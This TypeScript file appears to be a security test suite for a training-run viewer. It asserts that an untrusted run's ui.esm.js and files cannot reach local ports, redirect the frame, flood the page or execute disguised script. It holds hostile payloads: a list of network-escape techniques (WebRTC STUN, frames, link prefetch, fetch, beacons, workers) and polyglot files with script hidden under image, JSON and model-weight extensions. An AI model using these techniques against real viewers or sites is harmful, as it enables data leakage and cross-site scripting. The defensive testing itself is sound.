/** Attacks of a run folder from somebody else on the reader of the page, in Chromium: by its `ui.esm.js`, and by its files. */
import { createSocket } from "node:dgram"
import { once } from "node:events"
import { readdirSync, readFileSync } from "node:fs"
import { createServer } from "node:net"
import { extname, join } from "node:path"
import * as NodeServices from "@effect/platform-node/NodeServices"
import { Effect, Exit, Scope } from "effect"
import { exportSite } from "../../../src/command/ui/exportSite.ts"
import { serve } from "../../../src/command/ui/server-node.ts"
import { chromium, launch, type Page } from "../../command/ui/chromium.ts"
import { makeRun, write } from "../../command/ui/folder.ts"
import { listen, startHttp } from "../../servers/listen.ts"
import { must } from "../Proof.ts"
import type { Attack } from "./Attack.ts"

const steps = [1, 2, 3].map((at) => ({ state: [at], action: [0], dt: 0.02, reward: 1 }))

/** Runs the body with a browser, or says that there is none. */
const browsing = async (body: (page: Page) => Promise<string>): Promise<string> => {
  if (chromium === undefined) return "skipped: there is no chromium here"
  const browser = await launch(chromium)
  try {
    return await body(browser.page)
  } finally {
    await browser.close()
  }
}

/** Opens the page of a run with this code, on a server as `effect ui` starts it. */
const opened = async (page: Page, folder: string, code: string, body: () => Promise<string>): Promise<string> => {
  const run = makeRun(folder)
  write(folder, `${run}/ui.esm.js`, code)
  write(folder, `${run}/steps/000000000001000/trajectories.json`, JSON.stringify([{ trajectory: steps }]))
  const scope = await Effect.runPromise(Scope.make())
  const serving = serve({ directory: folder, host: "127.0.0.1", port: 0 })
  const { port } = await Effect.runPromise(Scope.provide(serving, scope))
  try {
    await page.goto(`http://127.0.0.1:${port}/#/run/${run}`)
    return await body()
  } finally {
    await page.goto("about:blank")
    await Effect.runPromise(Scope.close(scope, Exit.void))
  }
}

/** Code that tries to reach both ports of this machine, in every realm that it can make, and then counts its attempts. */
const reaching = (udp: number, tcp: number): string => `
const call = async (realm) => {
  const Connection = realm.RTCPeerConnection ?? realm.webkitRTCPeerConnection
  const one = new Connection({ iceServers: [{ urls: "stun:127.0.0.1:${udp}" }] })
  one.createDataChannel("out")
  const gathered = new Promise((done) => { one.onicegatheringstatechange = () => one.iceGatheringState === "complete" && done() })
  await one.setLocalDescription(await one.createOffer())
  await gathered
}
const framed = (make) => {
  const before = window.length
  document.body.append(make())
  if (window.length > before) return window[before]
  throw new Error("no frame")
}
const xhtml = "http://www.w3.org/1999/xhtml"
const ways = [
  () => call(self),
  () => call(framed(() => document.createElement("iframe"))),
  () => call(framed(() => document.createElement("object"))),
  () => call(framed(() => document.createElementNS(xhtml, "frame"))),
  () => call(framed(() => document.implementation.createDocument(xhtml, "iframe").documentElement)),
  () => call(framed(() => document.implementation.createHTMLDocument("").createElement("iframe"))),
  () => call(framed(() => new DOMParser().parseFromString("<iframe>", "text/html").body.firstChild)),
  () => call(framed(() => { const one = document.createElement("div"); one.innerHTML = "<iframe></iframe>"; return one })),
  () => call(framed(() => { const one = document.createElement("div"); one.setHTMLUnsafe("<iframe></iframe>"); return one })),
  () => call(framed(() => document.createRange().createContextualFragment("<iframe></iframe>"))),
  () => call(framed(() => { customElements.define("x-y", class extends HTMLIFrameElement {}, { extends: "iframe" }); return new (customElements.get("x-y"))() })),
  () => call(framed(() => { document.write("<iframe></iframe>"); return "" })),
  () => call(window.open("about:blank")),
  ...["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "stylesheet"].flatMap((rel) => [
    () => { document.head.append(Object.assign(document.createElement("link"), { rel, href: "http://127.0.0.1:${tcp}/" + rel })) },
    () => { document.head.innerHTML = '<link rel="' + rel + '" href="http://127.0.0.1:${tcp}/x">' },
    () => Object.assign(document.querySelector("link"), { rel, href: "http://127.0.0.1:${tcp}/old" }),
  ]),
  () => fetch("http://127.0.0.1:${tcp}/fetch", { mode: "no-cors" }),
  () => new Promise((done, failed) => Object.assign(new Image(), { onload: done, onerror: failed }).src = "http://127.0.0.1:${tcp}/image"),
  () => new WebSocket("ws://127.0.0.1:${tcp}/"),
  () => new EventSource("http://127.0.0.1:${tcp}/"),
  () => new WebTransport("https://127.0.0.1:${tcp}/").ready,
  () => navigator.sendBeacon("http://127.0.0.1:${tcp}/"),
  () => import("http://127.0.0.1:${tcp}/module.js"),
  () => new Worker("http://127.0.0.1:${tcp}/worker.js"),
  () => document.adoptedStyleSheets = [Object.assign(new CSSStyleSheet(), {})].map((one) => { one.replaceSync("body { background: url(http://127.0.0.1:${tcp}/css) }"); return one }),
  () => new FontFace("x", "url(http://127.0.0.1:${tcp}/font)").load(),
]
export const init = async () => {
  // Some attempts never end when they are refused.
  const second = () => new Promise((done) => setTimeout(done, 1000))
  for (const way of ways) await Promise.race([Promise.resolve().then(way).catch(() => {}), second()])
  return {}
}
export const render = () => {}
`

/** Serves a folder as a careless server: types by name for everything that a browser runs, and else by the first bytes. */
const careless = (folder: string) =>
  startHttp((request, response) => {
    const path = decodeURIComponent(new URL(request.url ?? "", "http://x").pathname)
    try {
      const bytes = readFileSync(join(folder, path))
      const type = { ".html": "text/html", ".htm": "text/html", ".shtml": "text/html", ".js": "text/javascript", ".svg": "image/svg+xml", ".xml": "text/xml", ".xhtml": "application/xhtml+xml", ".xht": "application/xhtml+xml", ".css": "text/css" }[extname(path).toLowerCase()] // prettier-ignore
      // Without a type, the browser goes by the first bytes.
      response.writeHead(200, type === undefined ? {} : { "content-type": type }).end(bytes)
    } catch {
      response.writeHead(404).end()
    }
  })

const script = "<script>globalThis.stolen = true</script>"
const xhtml = `<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`

/** Files that run in the origin from which a browser opens them. */
const active: Readonly<Record<string, string>> = {
  "evil.html": script,
  "evil.HTM": script,
  "evil.shtml": script,
  "evil.svg": `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`,
  "evil.xml": `<?xml version="1.0"?>${xhtml}`,
  "evil.xhtml": xhtml,
  "evil.xht": xhtml,
  "evil.mht": script,
  evil: script,
  "index.html": script,
  "evil.safetensors": `\n <!DOCTYPE html>${script}`,
  "evil.json": `<html>${script}</html>`,
  "evil.txt": `<!-- -->${script}`,
  "evil.png": `<body>${script}</body>`,
  "evil.html.h5": `<p>${script}`,
  "steps/000000000001000/episode.svg": `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`,
}

export const pageAttacks: ReadonlyArray<Attack> = [
  {
    door: "page",
    name: "a run's ui.esm.js calls out by WebRTC, link hints, frames and requests",
    attempt: (folder) =>
      browsing(async (page) => {
        const calls: Array<string> = []
        const udp = createSocket("udp4", () => calls.push("a packet"))
        udp.bind(0, "127.0.0.1")
        await once(udp, "listening")
        const tcp = createServer((socket) => {
          calls.push("a connection")
          socket.destroy()
        })
        const port = await listen(tcp)
        try {
          return await opened(page, folder, reaching(udp.address().port, port), async () => {
            await page.until("document.querySelector('iframe')?.dataset.drawn === '0:0'")
            must(calls.length === 0, `this machine received ${calls.join(", ")}`)
            return "nothing reached another port of this machine"
          })
        } finally {
          udp.close()
          tcp.close()
        }
      }),
  },
  {
    door: "page",
    name: "a run's ui.esm.js takes its frame to another site",
    attempt: (folder) =>
      browsing(async (page) => {
        const requests: Array<string> = []
        // The browser connects before it finds that the page allows no such frame, but sends nothing.
        const site = await startHttp((request, response) => {
          requests.push(request.url ?? "")
          response.end()
        })
        const code = `export const init = () => { location = "${site.url}/?stolen"; return new Promise(() => {}) }`
        try {
          return await opened(page, folder, code, async () => {
            await page.until("document.querySelector('.player .numbers') !== null")
            must(requests.length === 0, `the site received ${requests.join(", ")}`)
            return String(await page.evaluate("document.querySelector('.player .problem').textContent"))
          })
        } finally {
          await site.close()
        }
      }),
  },
  {
    door: "page",
    name: "a run's ui.esm.js floods the page with messages",
    attempt: (folder) =>
      browsing((page) =>
        opened(
          page,
          folder,
          "const send = () => { for (let at = 0; at < 50000; at++) parent.postMessage({ at }, '*'); setTimeout(send) }; send(); export const init = () => {}; export const render = () => {}",
          async () => {
            await page.until("document.querySelector('.player .numbers') !== null")
            const problem = String(await page.evaluate("document.querySelector('.player .problem').textContent"))
            must(problem.includes("stopped"), `the page says: ${problem}`)
            return problem
          },
        ),
      ),
  },
  {
    door: "page",
    name: "files of a run are opened in the origin of an exported site",
    attempt: (folder) =>
      browsing(async (page) => {
        const run = makeRun(join(folder, "results"))
        for (const [name, text] of Object.entries(active)) write(folder, `results/${run}/${name}`, text)
        const site = join(folder, "site")
        await Effect.runPromise(Effect.provide(exportSite(join(folder, "results"), site), NodeServices.layer))
        const server = await careless(site)
        try {
          const files = readdirSync(join(site, "files"), { recursive: true, withFileTypes: true }).filter((one) => one.isFile()) // prettier-ignore
          for (const { parentPath, name } of files) {
            const path = join(parentPath, name).slice(site.length)
            await page.goto(server.url + path.split("/").map(encodeURIComponent).join("/"))
            must((await page.evaluate("globalThis.stolen")) === undefined, `${path} was run`)
          }
          return `none of ${files.length} files was run`
        } finally {
          await server.close()
        }
      }),
  },
]
